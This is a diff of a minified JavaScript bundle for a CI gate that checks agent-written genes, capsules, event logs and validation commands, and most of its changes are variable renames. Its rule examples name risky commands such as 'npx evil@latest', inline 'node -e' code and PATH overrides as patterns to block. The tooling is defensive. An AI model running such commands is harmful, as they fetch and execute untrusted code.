-capsule)({success_streak:9})],events:[]},right:{...i(),candidates:[(0,e().capsule)({success_streak:2})]},configure:`a2a:\
+capsule)({success_streak:9})],events:[]},right:{...c(),candidates:[(0,e().capsule)({success_streak:2})]},configure:`a2a:\
 
-  min_success_streak: 2`,message:({capsule:w,streak:g,least:o,uncounted:h})=>`The Capsule \`${w}\` is not eligible: the e\
-vents show ${g} consecutive ${g===1?"success":"successes"}, but the policy requires ${o}${h.map(c=>`; ${c}`).join("")}.`,
+  min_success_streak: 2`,message:({capsule:y,streak:g,least:o,uncounted:l})=>`The Capsule \`${y}\` is not eligible: the e\
+vents show ${g} consecutive ${g===1?"success":"successes"}, but the policy requires ${o}${l.map(m=>`; ${m}`).join("")}.`,
 remedy:"Apply the Capsule again, so that the engine appends the complete events of its cycles to the log."})})},40036:function(A,t,s){
 Object.defineProperty(t,"__esModule",{value:!0}),t.evidenceRules=void 0;function e(){const o=s(67298);return e=function(){
-return o},o}function n(){const o=s(43767);return n=function(){return o},o}const i=(0,e().log)(...Array.from({length:9},(o,h)=>({
-id:`evt_${h+1}`,...h>0&&{parent:`evt_${h}`},capsule_id:"capsule_1"}))).head;function a(o,h){return{head:{[e().CAPSULES]:[
-(0,e().capsule)(o)],...h}}}function w(o,h={}){const r={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...h,
+return o},o}function n(){const o=s(43767);return n=function(){return o},o}const c=(0,e().log)(...Array.from({length:9},(o,l)=>({
+id:`evt_${l+1}`,...l>0&&{parent:`evt_${l}`},capsule_id:"capsule_1"}))).head;function r(o,l){return{head:{[e().CAPSULES]:[
+(0,e().capsule)(o)],...l}}}function y(o,l={}){const a={protocol:"gep-a2a",message_type:"publish",sender_id:"node_7",...l,
 payload:{...o,asset:{type:"Mutation",id:"mut_1",category:"repair",trigger_signals:["log_error"],target:"gene:gene_a",expected_effect:"\
-The error is gone.",risk_level:"low"}}};return`${JSON.stringify(r,null,2)}
+The error is gone.",risk_level:"low"}}};return`${JSON.stringify(a,null,2)}
 `}const g=t.evidenceRules=(0,n().rules)("asset","bookkeeping",{"event-parent-missing":(0,n().rule)({instance:["fix"],group:"\
 log",unproven:!0,title:"Parent of an event does not exist",why:"`parent` names the previous event. If no asset file cont\
 ains it, the log has a gap: a cycle was omitted, or the event was written by hand. An event that is appended to an audit\
@@ -1782,36 +1797,36 @@ rom; without the gene, its commands and limits are unknown. A gene that the chan
 file or npm script was removed, it fails only later, and nobody remembers why. If only past events name a gene, this is \
 a notice, because the log keeps its history.",wrong:{base:{[e().GENES]:[(0,e().gene)()],[e().CAPSULES]:[(0,e().capsule)(
 {gene:"gene_a"})]},head:{[e().CAPSULES]:[(0,e().capsule)({gene:"gene_a"})]}},right:{base:{[e().GENES]:[(0,e().gene)()],[e().
-CAPSULES]:[(0,e().capsule)({gene:"gene_a"})]},head:{}},message:({what:o,by:h,more:c})=>`The change removes the ${o}, but\
- ${h}${c===0?" still names":` and ${c} more still name`} it.`,remedy:"{fix}."}),"claim-differs":(0,n().warning)({cause:({
+CAPSULES]:[(0,e().capsule)({gene:"gene_a"})]},head:{}},message:({what:o,by:l,more:m})=>`The change removes the ${o}, but\
+ ${l}${m===0?" still names":` and ${m} more still name`} it.`,remedy:"{fix}."}),"claim-differs":(0,n().warning)({cause:({
 fix:o})=>`claim: ${o}`,counted:["claim","shown"],group:"evidence",title:"Claim of an asset differs from what the change \
 or the events show",why:"A Capsule declares its own blast radius and `success_streak`, and an event estimates what it wi\
 ll edit. The gate compares these claims with git and with the events. A blast radius below every way of counting is a wa\
 rning, and one above all changed files and lines is a notice; the claims of one change are added up. An estimate differs\
- if the change touches more than three times as many files, or fewer than a tenth.",wrong:a({blast_radius:{files:1,lines:1}},
+ if the change touches more than three times as many files, or fewer than a tenth.",wrong:r({blast_radius:{files:1,lines:1}},
 {"src/<1-3>.js":`work();
-`}),right:a({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
+`}),right:r({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
 `}),message:"The {type} `{id}` {claim}, but {shown}.",remedy:"{fix}."}),"claim-not-checked":(0,n().warning)({counted:["w\
 hy"],unproven:!0,group:"evidence",title:"Claim could not be checked, because a log was not read completely",why:"Of an a\
 udit log, the newest records up to `assets.max_file_bytes` are read. If they do not decide a claim, the gate says so, in\
 stead of counting what it did not read as missing. A Capsule is not eligible for promotion until its successes are count\
-ed.",wrong:{base:i,...a({success_streak:9},i),policy:`assets:
+ed.",wrong:{base:c,...r({success_streak:9},c),policy:`assets:
   max_file_bytes: 1500
-`},right:{base:i,...a({success_streak:9},i)},configure:`assets:
+`},right:{base:c,...r({success_streak:9},c)},configure:`assets:
   max_file_bytes: 67108864`,message:"The gate could not check {claim}. It read {why}.",remedy:"Increase `assets.max_file\
 _bytes` in the policy on the base branch."}),"envelope-contradicts-asset":(0,n().rule)({otherAsset:!0,title:"Message or \
 wrapper contradicts the asset that it contains",why:"A message between agents, and each entry in the answer of a hub, sa\
 ys beside the asset which asset it is: `asset_id`, `content_hash`, `asset_type`, `type` or `local_id`. If this differs f\
 rom the asset, one of the two was edited, or they are about different assets. Readers that trust different parts of it w\
-ould accept different assets.",wrong:{head:{[e().GENES]:w({local_id:"mut_other"})}},right:{head:{[e().GENES]:w({local_id:"\
+ould accept different assets.",wrong:{head:{[e().GENES]:y({local_id:"mut_other"})}},right:{head:{[e().GENES]:y({local_id:"\
 mut_1"})}},message:"The object that contains the {type} `{id}` states `{field}` {stated}, but the asset has {actual}.",remedy:"\
 Request the asset again from its sender."})})},67298:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.WRONG_HASH=
-t.SEED_STORE=t.RIGHT_HASH=t.GENES=t.CAPSULES=void 0,t.capsule=g,t.event=o,t.gene=w,t.genes=c,t.log=r,t.validationReport=
-h;const s=t.GENES="assets/gep/genes.json",e=t.CAPSULES="assets/gep/capsules.json",n="assets/gep/events.jsonl",i=t.RIGHT_HASH=
-{own:"<hash of this content>",hub:"<hash of this content without the notes>"},a=t.WRONG_HASH="<hash of something else>";
-function w(f={}){return{type:"Gene",id:"gene_a",...f}}function g(f={}){return{type:"Capsule",id:"capsule_1",...f}}function o(f={}){
-return{type:"EvolutionEvent",id:"evt_1",...f}}function h(f={}){return{type:"ValidationReport",id:"vr_1",...f}}function c(...f){
-return{head:{[s]:f.map(w)}}}function r(...f){return{head:{[n]:f.map(o)}}}const u=t.SEED_STORE=`${JSON.stringify({genes:[
+t.SEED_STORE=t.RIGHT_HASH=t.GENES=t.CAPSULES=void 0,t.capsule=g,t.event=o,t.gene=y,t.genes=m,t.log=a,t.validationReport=
+l;const s=t.GENES="assets/gep/genes.json",e=t.CAPSULES="assets/gep/capsules.json",n="assets/gep/events.jsonl",c=t.RIGHT_HASH=
+{own:"<hash of this content>",hub:"<hash of this content without the notes>"},r=t.WRONG_HASH="<hash of something else>";
+function y(p={}){return{type:"Gene",id:"gene_a",...p}}function g(p={}){return{type:"Capsule",id:"capsule_1",...p}}function o(p={}){
+return{type:"EvolutionEvent",id:"evt_1",...p}}function l(p={}){return{type:"ValidationReport",id:"vr_1",...p}}function m(...p){
+return{head:{[s]:p.map(y)}}}function a(...p){return{head:{[n]:p.map(o)}}}const i=t.SEED_STORE=`${JSON.stringify({genes:[
 {type:"Gene",id:"gene_gep_optimize_prompt_and_assets",category:"optimize",signals_match:["protocol","gep","prompt","audi\
 t","reusable"],preconditions:["need stricter, auditable evolution protocol outputs"],strategy:["Extract signals and dete\
 rmine selection rationale via Selector JSON","Prefer reusing existing Gene/Capsule; only create if no match exists","Ref\
@@ -1820,10 +1835,10 @@ t schema","Validate by running node index.js run and ensuring no runtime errors"
 e Gene definitions, create Capsule on success"],constraints:{max_files:20,forbidden_paths:[".git","node_modules"]},validation:[
 "node index.js run"]}]},null,2)}
 `},72443:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.invocationRules=void 0;function e(){const o=s(
-43767);return e=function(){return o},o}const n=new Set(["bun","deno","python","python3"]),i={policy:`programs: [make]
+43767);return e=function(){return o},o}const n=new Set(["bun","deno","python","python3"]),c={policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
-`}};function a(o,h){return h===""?`\`${o}\``:`\`${o} ${h}\``}const w=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,g=t.
+`}};function r(o,l){return l===""?`\`${o}\``:`\`${o} ${l}\``}const y=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,g=t.
 invocationRules=(0,e().rules)("invocation","broken",{"unknown-flag":(0,e().rule)({title:"Flag is unknown",why:"A flag de\
 cides what runs, and an unknown flag may take the next word as its value. It can be newer than the tables of the gate, o\
 r misspelled. Of npm, only the flags that say which scripts run, and how much it prints, are known: npm 10 and 11 discar\
@@ -1836,20 +1851,20 @@ a newer tool has can be added with `tool_flags` in the policy of the base branch
 counted:["meant"],title:"Subcommand is unknown",why:"The subcommand decides what a program does, and some programs run a\
  program of this name from PATH if they do not have it. npm runs a test, a script, or a tool: `npm test`, `npm run NAME`\
 , `npm start`, `npm stop`, `npm exec`; it completes abbreviated subcommands differently in each version.",wrong:"npm tes",
-right:"npm test",message:({program:o,subcommand:h,meant:c=""})=>`\`${o} ${h}\` is no subcommand that the gate knows${c&&
-`; a similar one is \`${c}\``}.`,remedy:"Correct the subcommand, or run a script with `node`."}),"outside-code":(0,e().rule)(
+right:"npm test",message:({program:o,subcommand:l,meant:m=""})=>`\`${o} ${l}\` is no subcommand that the gate knows${m&&
+`; a similar one is \`${m}\``}.`,remedy:"Correct the subcommand, or run a script with `node`."}),"outside-code":(0,e().rule)(
 {harm:"danger",removable:!0,title:"Command runs code that is no file of the commit",why:"Inline code, preloaded modules,\
  loaders, plug-ins and configuration from elsewhere, and programs that a tool starts are not read as the code of the com\
 mit is. What opens a debugger or a shell runs whatever is sent to it.",wrong:`node -e "require('./check')"`,right:"node \
-scripts/validate/check.cjs",message:({program:o,flag:h})=>h===o||/['"`]/.test(h)?`\`${o}\` starts other code than files o\
-f the commit.`:`${a(o,h)} runs code that is no file of the commit.`,remedy:({program:o,flag:h})=>h.startsWith("-")&&!w.test(
-h)?`Remove \`${h}\`: keep code and configuration in files of the commit that the program finds by itself.`:`Move the cod\
+scripts/validate/check.cjs",message:({program:o,flag:l})=>l===o||/['"`]/.test(l)?`\`${o}\` starts other code than files o\
+f the commit.`:`${r(o,l)} runs code that is no file of the commit.`,remedy:({program:o,flag:l})=>l.startsWith("-")&&!y.test(
+l)?`Remove \`${l}\`: keep code and configuration in files of the commit that the program finds by itself.`:`Move the cod\
 e into a script in the repository, and run it with \`${n.has(o)?o:"node"}\`; write what is started as a command of its ow\
 n.`}),"uses-network":(0,e().rule)({harm:"danger",removable:!0,title:"Command downloads, installs, publishes, or asks a s\
 erver",why:"What a server answers changes over time, and an installation runs scripts of packages. npx downloads and run\
 s a package that it does not find, and a version, tag, path, or address names something to download. A validation comman\
-d only reads; it has no network and no account.",wrong:"npx evil@latest",right:"npx eslint src",message:({program:o,flag:h})=>`${a(
-o,h)} uses the network, or installs or publishes packages.`,remedy:({program:o})=>o==="npx"?"Add the package to `devDepe\
+d only reads; it has no network and no account.",wrong:"npx evil@latest",right:"npx eslint src",message:({program:o,flag:l})=>`${r(
+o,l)} uses the network, or installs or publishes packages.`,remedy:({program:o})=>o==="npx"?"Add the package to `devDepe\
 ndencies` and the lockfile, and run the tool by its plain name.":"Check what the commit and its dependencies hold; insta\
 ll packages in the workflow with the `prepare` input, not in a gene."}),"writes-files":(0,e().rule)({removable:!0,title:"\
 Command writes files",why:"Profiles, reports, logs, and generated files can be written to any path, and reports contain \
@@ -1857,8 +1872,8 @@ the entire environment.",wrong:"node --cpu-prof scripts/check.js",right:"node sc
 `{program}` write or delete files.",remedy:"Remove `{flag}`; a validation command only reads."}),"tool-writes":(0,e().warning)(
 {writes:!0,removable:!0,title:"Tool changes the files that it checks",why:"A command that repairs files or rewrites snap\
 shots passes because of what it wrote.",wrong:"npx eslint --fix src",right:"npx eslint src",message:"`{flag}` lets `{pro\
-gram}` change files during validation.",remedy:({flag:o,program:h})=>o.startsWith("-")?`Remove \`${o}\`.`:`Run the check\
- of \`${h}\` that changes no files.`}),"never-ends":(0,e().rule)({removable:!0,title:"Command does not end",why:"Watcher\
+gram}` change files during validation.",remedy:({flag:o,program:l})=>o.startsWith("-")?`Remove \`${o}\`.`:`Run the check\
+ of \`${l}\` that changes no files.`}),"never-ends":(0,e().rule)({removable:!0,title:"Command does not end",why:"Watcher\
 s and servers run until the time limit stops them.",wrong:"node --watch scripts/check.js",right:"node scripts/check.js",
 message:"`{flag}` keeps `{program}` running indefinitely.",remedy:"Remove `{flag}`, or run the tool once."}),"skips-test\
 s":(0,e().warning)({idle:!0,removable:!0,title:"Command can pass without running what it checks",why:"A run without test\
@@ -1881,17 +1896,17 @@ write `{flag}` alone."}),"nothing-to-run":(0,e().rule)({title:"Command does not 
 prints its help, and `npx` alone opens a shell.",wrong:"npx",right:"npx eslint src",message:"The command does not name a\
  script or tool for `{program}` to run.",remedy:"Name the script or tool to run."}),"reads-stdin":(0,e().rule)({title:"P\
 rogram reads its code from standard input",why:"Standard input is closed during validation. Where it is open, the progra\
-m runs whatever it receives.",wrong:"node -",right:"node scripts/check.js",message:({program:o,flag:h})=>`${h===""?"The \
-command":`\`${h}\``} makes \`${o}\` read code from standard input.`,remedy:"Name a script in the repository."}),"make-va\
+m runs whatever it receives.",wrong:"node -",right:"node scripts/check.js",message:({program:o,flag:l})=>`${l===""?"The \
+command":`\`${l}\``} makes \`${o}\` read code from standard input.`,remedy:"Name a script in the repository."}),"make-va\
 riable":(0,e().rule)({harm:"danger",title:"Command sets a variable of the build files",why:"A variable on the command li\
 ne replaces the one of the Makefile, becomes part of shell text, and is in the environment of every recipe: it can name \
-the program that runs, or the path on which programs are found.",wrong:{...i,command:"make test PATH=tools:/usr/bin"},right:{
-...i,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: [\
+the program that runs, or the path on which programs are found.",wrong:{...c,command:"make test PATH=tools:/usr/bin"},right:{
+...c,command:"make test V=1",also:{"build-files-unread":"The Makefile decides what runs."}},configure:"make_variables: [\
 TESTS]",message:"`{program} {variable}=\u2026` sets a variable for the build files and the programs that they start.",remedy:"\
 Set `{variable}` in the build file, or allow it with `make_variables: [{variable}]` in the policy of the base branch."}),
 "only-prints":(0,e().warning)({title:"Command only prints information",why:"The command does not check the change, so it\
- passes whatever the change does.",wrong:"node --version",right:"node scripts/check.js",message:({program:o,flag:h})=>`${a(
-o,h)} only prints information and validates nothing.`,remedy:"Run a command that fails when the gene breaks something."}),
+ passes whatever the change does.",wrong:"node --version",right:"node scripts/check.js",message:({program:o,flag:l})=>`${r(
+o,l)} only prints information and validates nothing.`,remedy:"Run a command that fails when the gene breaks something."}),
 "checks-syntax-only":(0,e().warning)({title:"Command only checks syntax",why:"`node --check`, `php -l`, and `python -m p\
 y_compile` read files and do not run them.",wrong:"node --check src/index.js",right:"node --test",message:"`{flag}` chec\
 ks the syntax of a file and runs nothing.",remedy:"Run a test that uses the file."}),"absolute-path":(0,e().warning)({harm:"\
@@ -1906,23 +1921,23 @@ tart programs, or write files, so a reviewer has to.",wrong:{command:"npx my-che
 `,"node_modules/.bin/my-checker":{symlink:"../my-checker/bin.js"},"node_modules/my-checker/bin.js":`#!/usr/bin/env node
 `}},right:"npx eslint src",message:"The gate does not know the flags of `{tool}`.",remedy:"Check what the tool does with\
  these words, or run a known tool or a script."})})},46711:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
-t.policyRules=void 0;function e(){const O=s(67298);return e=function(){return O},O}function n(){const O=s(36773);return n=
-function(){return O},O}function i(){const O=s(43767);return i=function(){return O},O}const a=".github/gene-gate.yml",w=(0,e().
+t.policyRules=void 0;function e(){const T=s(67298);return e=function(){return T},T}function n(){const T=s(36773);return n=
+function(){return T},T}function c(){const T=s(43767);return c=function(){return T},T}const r=".github/gene-gate.yml",y=(0,e().
 genes)({validation:["node scripts/check.js"]}),g=".github/workflows/gate.yml",o=`on: [pull_request, merge_group]
 jobs:
   gate:
     runs-on: ubuntu-24.04
     steps:
       - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
-      - uses: gene-gate/gene-gate@63a8eb7b1989eae6dc40680f790cf1bbb629a298
-`;function h(O){return{base:O,head:{...O,"src/index.js":`work();
-`}}}const c=o.replace("- uses: gene",`- run: ./setup.sh
-      - uses: gene`),r={base:{[a]:`fail_on: warning
-`},head:{[a]:`fail_on: error
-`}},u={"AGENTS.md":`<!-- gene-gate:begin -->
+      - uses: gene-gate/gene-gate@63a8eb7b1989eae6dc40680f790cf1bbb629a298 # v0.1.0
+`;function l(T){return{base:T,head:{...T,"src/index.js":`work();
+`}}}const m=o.replace("- uses: gene",`- run: ./setup.sh
+      - uses: gene`),a={base:{[r]:`fail_on: warning
+`},head:{[r]:`fail_on: error
+`}},i={"AGENTS.md":`<!-- gene-gate:begin -->
 Do not add ignores.
 <!-- gene-gate:end -->
-`},f={"protected-path":"The default list protects agent instructions."},d=`profile: curated
+`},p={"protected-path":"The default list protects agent instructions."},h=`profile: curated
 mode: dangerous
 allow_dangerous: true
 families:
@@ -1932,41 +1947,41 @@ families:
       forms: { scripts/check.js: {} }
       match: ['node scripts/check.js']
       not_match: ['node scripts/other.js']
-`,S=50;function k(O){const $=O.length-S;return`${O.slice(0,S).join("; ")}${$>0?`; and ${$} more`:""}`}const v=12;function b(O){
-const $=O.length-v;return`${(0,n().inCode)(O.slice(0,v))}${$>0?`, and ${$} more lines`:""}`}function _(O,$,R,M){return $===
-"review"?`Ask ${O===1?"a person":l(O)} with write access, other than the author, to approve the pull request with a revi\
+`,_=50;function v(T){const $=T.length-_;return`${T.slice(0,_).join("; ")}${$>0?`; and ${$} more`:""}`}const b=12;function d(T){
+const $=T.length-b;return`${(0,n().inCode)(T.slice(0,b))}${$>0?`, and ${$} more lines`:""}`}function S(T,$,R,M){return $===
+"review"?`Ask ${T===1?"a person":u(T)} with write access, other than the author, to approve the pull request with a revi\
 ew that contains the line \`/gene-gate approve\`${M&&`, or \`/gene-gate approve ${M}\` for exactly this digest`}.`:`If ${R}\
-, run the gate again with \`--approve=${M}\`.`}function y(O){return O.length===0?"no setting changes":`these settings ch\
-ange after the merge: ${k(O)}`}function m([O,...$]){return $.length===0?`\`${O}\` requires`:`\`${O}\` and ${$.length} mo\
-re of its commands require`}function p(O,$){if(O===1)return"";const R=$===1?"one has":`${$} have`;return $===0?` from ${l(
-O)}`:` from ${l(O)}, and ${R} approved`}function l(O){return O===2?"two people":`${O} people`}const E=3;function x(O){if(O.
-length===0)return"";const $=O.length-E;return`; not counted: ${O.slice(0,E).join("; ")}${$>0?`; and ${$} more`:""}`}function j(O,$){
+, run the gate again with \`--approve=${M}\`.`}function k(T){return T.length===0?"no setting changes":`these settings ch\
+ange after the merge: ${v(T)}`}function w([T,...$]){return $.length===0?`\`${T}\` requires`:`\`${T}\` and ${$.length} mo\
+re of its commands require`}function f(T,$){if(T===1)return"";const R=$===1?"one has":`${$} have`;return $===0?` from ${u(
+T)}`:` from ${u(T)}, and ${R} approved`}function u(T){return T===2?"two people":`${T} people`}const E=3;function x(T){if(T.
+length===0)return"";const $=T.length-E;return`; not counted: ${T.slice(0,E).join("; ")}${$>0?`; and ${$} more`:""}`}function j(T,$){
 return`ignores:
-  - rule: ${O}
+  - rule: ${T}
     where: { gene: gene_a }
     reason: The engine writes it from its next release on.
     expires: ${$}-12-31
-`}const N=t.policyRules=(0,i().rules)("policy","broken",{"policy-changed":(0,i().notice)({shownWhole:!0,title:"Change ed\
+`}const N=t.policyRules=(0,c().rules)("policy","broken",{"policy-changed":(0,c().notice)({shownWhole:!0,title:"Change ed\
 its the policy; the policy of the base branch applies",why:"The policy is always read from the base branch, so a change \
 cannot allow its own content. An edit of the policy applies from the next change on. The finding lists the keys that cha\
-nge, their old and new values, and whether each change allows more or less, where this is known.",wrong:{base:{[a]:`limi\
+nge, their old and new values, and whether each change allows more or less, where this is known.",wrong:{base:{[r]:`limi\
 ts:
   command_timeout_seconds: 180
-`},head:{[a]:`limits:
+`},head:{[r]:`limits:
   command_timeout_seconds: 600
 `,[e().GENES]:[(0,e().gene)()]}},right:{head:{[e().GENES]:[(0,e().gene)()]},policy:`limits:
   command_timeout_seconds: 600
-`},message:({path:O,effects:$})=>`The change edits the policy \`${O}\`; the policy of the base branch applies to this cha\
-nge, and ${y($)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":(0,i().rule)({actor:"\
+`},message:({path:T,effects:$})=>`The change edits the policy \`${T}\`; the policy of the base branch applies to this cha\
+nge, and ${k($)}.`,remedy:"Merge the policy first, and then the change that needs it."}),"policy-broken":(0,c().rule)({actor:"\
 human",title:"Policy in the change is not valid",why:"The policy of the base branch applies to this change. After the me\
 rge, the new policy applies to every change, and the gate never passes with a policy that it cannot read. A change that \
 fixes the policy could not pass either. The policy is the regular file `.github/gene-gate.yml` and nothing else: with an\
 other spelling, such as `gene-gate.yaml`, `.GITHUB/`, or a file at the root, or if `.github` is a symlink, the default p\
-olicy would apply and nobody would notice.",wrong:{head:{[a]:`fail-on: warning
-`}},right:{head:{[a]:`fail_on: warning
+olicy would apply and nobody would notice.",wrong:{head:{[r]:`fail-on: warning
+`}},right:{head:{[r]:`fail_on: warning
 `}},message:"The policy `{path}` in this change is not valid ({mistake}).",remedy:`Write a valid policy into the regular\
- file \`${a}\`, and check it with \`gene-gate policy test\`; another file that is no policy needs another name.`}),"gate\
--weakened":(0,i().warning)({shownWhole:!0,approval:"needed",harm:"danger",actor:"human",counted:["effects","approval"],title:"\
+ file \`${r}\`, and check it with \`gene-gate policy test\`; another file that is no policy needs another name.`}),"gate\
+-weakened":(0,c().warning)({shownWhole:!0,approval:"needed",harm:"danger",actor:"human",counted:["effects","approval"],title:"\
 Change weakens the gate",why:"A change that deletes or loosens the policy, or that touches what decides whether and how \
 the gate runs, affects every later change, so it needs a person. The verdict is `needs_approval`, and no ignore silences\
  it. Compared with the base branch are: the effective policy; the YAML of each workflow and local action that mentions t\
@@ -1976,139 +1991,140 @@ of a job that it needs, or whose name contains `gene-gate`, documents and assets
 settings of package managers if one starts the gate or runs before it. If the job runs other code of the repository befo\
 re the gate, each changed code file counts ([`gate-runs-late`](gate-runs-late.md)). Comments, names of steps, other work\
 flows, and a workflow that is only renamed need nobody. A first policy and a first workflow weaken nothing.",wrong:{base:{
-[a]:`fail_on: warning
-`,[g]:o},head:{[a]:`fail_on: error
-`,[g]:o.replace("on: [pull_request, merge_group]","on: merge_group")}},right:{base:{[a]:`fail_on: error
-`,[g]:o},head:{[a]:`fail_on: warning
+[r]:`fail_on: warning
+`,[g]:o},head:{[r]:`fail_on: error
+`,[g]:o.replace("on: [pull_request, merge_group]","on: merge_group")}},right:{base:{[r]:`fail_on: error
+`,[g]:o},head:{[r]:`fail_on: warning
 `,[g]:o.replace("      - uses",`      # First.
       - uses`)},also:{"protected-path":"The default list protects workflows."}},configure:`approvals:
-  gate: 1   # people who must approve; 0 makes it a warning`,message:({path:O,effects:$})=>`The change weakens the gate \
-in \`${O}\`: ${k($)}.`,remedy:({path:O,approval:$})=>$==="given"?"No action is required: the change is approved.":$?`Res\
-tore \`${O}\` unless this is intended.`:`Restore \`${O}\`, or ask a person with write access to approve the change.`}),"\
-gate-runs-late":(0,i().notice)({actor:"human",counted:["steps","startsGate"],title:"Gate runs after code of the change",
+  gate: 1   # people who must approve; 0 makes it a warning`,message:({path:T,effects:$})=>`The change weakens the gate \
+in \`${T}\`: ${v($)}.`,remedy:({path:T,approval:$})=>$==="given"?"No action is required: the change is approved.":$?`Res\
+tore \`${T}\` unless this is intended.`:`Restore \`${T}\`, or ask a person with write access to approve the change.`}),"\
+gate-runs-late":(0,c().notice)({actor:"human",counted:["steps","startsGate"],title:"Gate runs after code of the change",
 why:"What a job runs before the gate can change the gate: its environment, its programs, its checkout. All steps before \
 the gate count, but actions that check out or set up a language, and so does a gate that a script, a build file or a pac\
 kage manager of the repository starts, as `npx gene-gate` in the checkout. Every report says so once, until the workflow\
  is changed. If such a step can run code of the repository, each changed code file needs a person ([`gate-weakened`](gat\
 e-weakened.md)), because nobody can say which files it reads; a job of its own avoids this. See [the required check](../\
-required-check.md#what-each-set-up-leaves-open).",wrong:h({[g]:c}),right:h({[g]:o}),message:({steps:O,startsGate:$})=>`A\
- change can decide what the gate runs with: ${k(O)} ${O.length===1?"takes its":"take their"} files from the change, ${$?
-"and starts the gate":"before the gate"}.`,remedy:({startsGate:O})=>O?"Use the action at a commit, or start a pinned ver\
+required-check.md#what-each-set-up-leaves-open).",wrong:l({[g]:m}),right:l({[g]:o}),message:({steps:T,startsGate:$})=>`A\
+ change can decide what the gate runs with: ${v(T)} ${T.length===1?"takes its":"take their"} files from the change, ${$?
+"and starts the gate":"before the gate"}.`,remedy:({startsGate:T})=>T?"Use the action at a commit, or start a pinned ver\
 sion outside of the checkout.":"Give the gate a job of its own, or publish its result from the default branch with `mode\
-: publish`."}),"agent-instructions":(0,i().warning)({actor:"human",counted:["lines","effect"],title:"Block of gene-gate \
+: publish`."}),"agent-instructions":(0,c().warning)({actor:"human",counted:["lines","effect"],title:"Block of gene-gate \
 in the agent instructions is edited or out of date",why:"The block that `gene-gate init --agents` writes into `AGENTS.md\
 ` (and, on request, `CLAUDE.md` and the rules of Cursor) tells agents what the gate accepts and what they must not do. A\
 n edit of the block, its removal, or a fence, comment or fold around it is shown with its lines; a block that this versi\
 on does not write is a notice. Instructions protect nothing: the gate decides in the same way without them, so nobody ha\
-s to approve the edit.",wrong:{base:u,head:{"AGENTS.md":`# Agents
+s to approve the edit.",wrong:{base:i,head:{"AGENTS.md":`# Agents
 `}},right:{head:{"AGENTS.md":`# Agents
-`},also:f},message:({path:O,effect:$,lines:R})=>`The block of gene-gate in \`${O}\` ${$}${R.length>0?`: ${b(R)}`:""}.`,remedy:({
-path:O})=>`Run \`gene-gate init --${/^(?:CLAUDE|.*gene-gate(?=\.mdc))/.test(O)?O.endsWith(".mdc")?"cursor":"claude":"age\
-nts"}\`, and commit the file.`}),"gate-approval-missing":(0,i().warning)({approval:"waits",harm:"danger",actor:"human",counted:[
+`},also:p},message:({path:T,effect:$,lines:R})=>`The block of gene-gate in \`${T}\` ${$}${R.length>0?`: ${d(R)}`:""}.`,remedy:({
+path:T})=>`Run \`gene-gate init --${/^(?:CLAUDE|.*gene-gate(?=\.mdc))/.test(T)?T.endsWith(".mdc")?"cursor":"claude":"age\
+nts"}\`, and commit the file.`}),"gate-approval-missing":(0,c().warning)({approval:"waits",harm:"danger",actor:"human",counted:[
 "weakens","runs"],title:"Change of the gate waits for approval",why:"A change that weakens the gate needs the approval o\
 f as many people as `approvals.gate` of the base policy says, given as for a command: see [approvals](../approvals.md). \
-With `agent_files.level: approve`, so does a change of commands that run automatically.",wrong:{...r,approvedBy:["author"]},
-right:{...r,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({needed:O,given:$,refusals:R,
-weakens:M,runs:D})=>`The change ${[...M?["weakens the gate"]:[],...D?["changes commands that run automatically"]:[]].join(
-", ")} and waits for approval${p(O,$)}${x(R)}.`,remedy:({needed:O,means:$,digest:R,weakens:M})=>_(O,$,M?"the gate may be\
-come weaker as described":"machines may run this",R)}),"input-loosens-policy":(0,i().warning)({harm:"danger",actor:"huma\
+With `agent_files.level: approve`, so does a change of commands that run automatically.",wrong:{...a,approvedBy:["author"]},
+right:{...a,approvedBy:["alice"],also:{"gate-weakened":"It stays in the report."}},message:({needed:T,given:$,refusals:R,
+weakens:M,runs:F})=>`The change ${[...M?["weakens the gate"]:[],...F?["changes commands that run automatically"]:[]].join(
+", ")} and waits for approval${f(T,$)}${x(R)}.`,remedy:({needed:T,means:$,digest:R,weakens:M})=>S(T,$,M?"the gate may be\
+come weaker as described":"machines may run this",R)}),"input-loosens-policy":(0,c().warning)({harm:"danger",actor:"huma\
 n",title:"Action input that loosens the policy is ignored",why:"On a pull request, the workflow file comes from the chan\
 ge itself, so its inputs can only tighten the policy of the base branch. An input that allows more is ignored. A profile\
  is also ignored if it is unclear whether it allows more: `curated` and `workspace` accept other programs than `evolver`\
 .",wrong:{head:{},inputs:{"command-timeout-seconds":3600}},right:{head:{},policy:`limits:
   command_timeout_seconds: 3600
 `},message:"The input `{input}: {given}` is ignored because it is not stricter than `{kept}` in the policy.",remedy:"Set\
- `{key}` to `{given}` in `.github/gene-gate.yml` on the base branch."}),"exception-refused":(0,i().warning)({actor:"huma\
+ `{key}` to `{given}` in `.github/gene-gate.yml` on the base branch."}),"exception-refused":(0,c().warning)({actor:"huma\
 n",title:"Exception in the policy has no effect",why:"A policy can soften warnings, and errors about what an asset claim\
 s or how much it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: \
 after its last day the finding counts again, and the exception is reported until the cause is fixed or a person sets a n\
 ew date. An ignore that covers nothing hides the next finding of its rule.",wrong:{...(0,e().genes)({validation:['node -\
-e "1"']}),policy:j("outside-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:w,message:"\
+e "1"']}),policy:j("outside-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:y,message:"\
 {exception} in the policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or corr\
-ect its rule or date."}),"approval-missing":(0,i().notice)({approval:"waits",actor:"human",title:"Gene waits for approva\
+ect its rule or date."}),"approval-missing":(0,c().notice)({approval:"waits",actor:"human",title:"Gene waits for approva\
